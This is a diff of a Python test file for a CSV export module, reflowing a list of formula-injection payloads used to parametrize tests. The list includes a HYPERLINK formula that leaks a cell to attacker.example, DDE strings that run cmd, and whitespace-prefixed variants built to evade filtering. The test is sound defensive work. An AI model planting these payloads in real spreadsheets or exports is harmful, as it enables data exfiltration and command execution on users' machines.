@@ -15,8 +15,8 @@ from processes.csv_export import csv_cell, csv_text
 from tests import reports_seed as seed
 from web import create_app
 
-PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u00a0@SUM(A1)"]
+PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u00a0@SUM(A1)"]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
